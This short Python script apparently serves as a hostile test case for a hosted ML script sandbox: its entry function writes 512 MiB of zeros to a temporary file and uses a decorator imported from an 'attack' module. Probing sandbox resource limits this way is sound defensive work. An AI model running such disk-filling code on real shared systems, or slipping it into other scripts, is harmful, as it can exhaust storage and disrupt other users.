"""Fills the folder for temporary files (by itself up to 512 MiB)."""

import tempfile
import time

from attack import exhausting


@exhausting
def azureml_main(dataframe1=None, dataframe2=None):
    with open(tempfile.mkstemp(prefix="hostile-left")[1], "wb", buffering=0) as stream:
        for _ in range(128):
            stream.write(bytes(1 << 22))
    time.sleep(0.7)
    return "wrote 512 MiB to the temporary folder"
